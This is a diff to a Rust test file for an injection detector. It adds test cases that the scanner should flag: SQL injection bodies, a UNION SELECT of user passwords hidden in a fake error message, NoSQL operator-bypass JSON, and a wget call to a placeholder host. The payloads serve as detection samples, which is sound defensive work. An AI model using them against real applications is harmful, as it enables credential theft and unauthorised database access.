@@ -1022,12 +1022,17 @@ fn jsx_handlers_and_bound_queries_are_not_injections() {
     ] {
         assert!(detector().scan(attack.as_bytes()).threat, "{attack}");
     }
-    // A traced query with bind placeholders supplies nothing.
-    let log =
-        r#"{"event":"db.query","statement":"UPDATE carts SET total = $1 WHERE id = $2","ms":12}"#;
+    // A traced SELECT with bind placeholders supplies nothing; a write or
+    // a sub-select with a placeholder added is still a query supplied.
+    let log = r#"{"event":"db.query","statement":"SELECT total FROM carts WHERE id = $1 AND owner = $2","ms":12}"#;
     assert_clean_of(log, Category::Sqli);
-    let body = r#"{"statement":"UPDATE carts SET total = 0 WHERE id = 7"}"#;
-    assert!(detector().scan(body.as_bytes()).threat);
+    for body in [
+        r#"{"statement":"UPDATE carts SET total = 0 WHERE id = 7"}"#,
+        r#"{"statement":"UPDATE carts SET total = $1 WHERE id = $2"}"#,
+        r#"{"q":"SELECT a FROM t WHERE b IN (SELECT c FROM u) AND d = ?"}"#,
+    ] {
+        assert!(detector().scan(body.as_bytes()).threat, "{body}");
+    }
 }
 
 #[test]
@@ -1094,4 +1099,21 @@ fn vertical_tabs_are_blanks() {
     let q = "id=1%0bOR%0b2%0b>%0b1&page=2";
     let v = detector().scan_as(q.as_bytes(), InputKind::Query);
     assert!(v.threat, "{:?}", v.findings);
+}
+
+#[test]
+fn written_error_messages_and_operator_keys_as_parameters() {
+    // Anyone can write a database's error message around a payload: in a
+    // parameter it is still reported.
+    let q = "name=You have an error in your SQL syntax near ' UNION SELECT pass FROM users -- ' at line 1";
+    assert!(detector().scan_as(q.as_bytes(), InputKind::Query).threat);
+    for body in [r#"{"code": {"$ne": ""}}"#, r#"{"apiKey": {"$gt": ""}}"#] {
+        assert!(detector().scan(body.as_bytes()).threat, "{body}");
+    }
+    // Only a Dockerfile instruction takes the exec form.
+    assert!(
+        detector()
+            .scan_as(br#"cmd=wget ["http://x.example/a"]"#, InputKind::Query)
+            .threat
+    );
 }
